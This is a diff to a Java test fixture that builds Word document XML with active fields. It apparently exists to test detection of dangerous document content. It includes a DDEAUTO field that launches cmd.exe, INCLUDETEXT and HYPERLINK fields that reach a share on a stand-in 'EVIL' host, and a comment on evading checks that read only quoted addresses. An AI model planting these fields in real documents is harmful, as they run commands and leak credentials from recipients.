@@ -84,6 +84,9 @@ final class ActiveFixtures {
         + "<w:p>" + field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "EVIDENCE-ACTIVE-dde-result") + "</w:p>"
         + "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\\\\\" + EVIL + "\\\\share\\\\x.docx&quot; \"><w:r><w:t>EVIDENCE-ACTIVE-simple-result</w:t></w:r></w:fldSimple></w:p>"
         + "<w:p><w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
+        // hyperlinks to a share that a reader of quoted addresses alone would take for safe: unquoted, and after a switch
+        + "<w:p>" + field(" HYPERLINK file://", EVIL + "/share/x.doc ", "EVIDENCE-ACTIVE-unquoted-link") + "</w:p>"
+        + "<w:p>" + field(" HYPERLINK \\o \"tip\" ", "\"\\\\\\\\" + EVIL + "\\\\s\\\\x.doc\" ", "EVIDENCE-ACTIVE-switch-link") + "</w:p>"
         + "<w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>EVIDENCE-ACTIVE-weblink</w:t></w:r></w:hyperlink>"
         + "<w:hyperlink r:id=\"rIdFile\"><w:r><w:t>EVIDENCE-ACTIVE-filelink</w:t></w:r></w:hyperlink></w:p>"
         + "<w:p><w:r><w:drawing><a:blip r:embed=\"rIdPic\"/></w:drawing></w:r>"
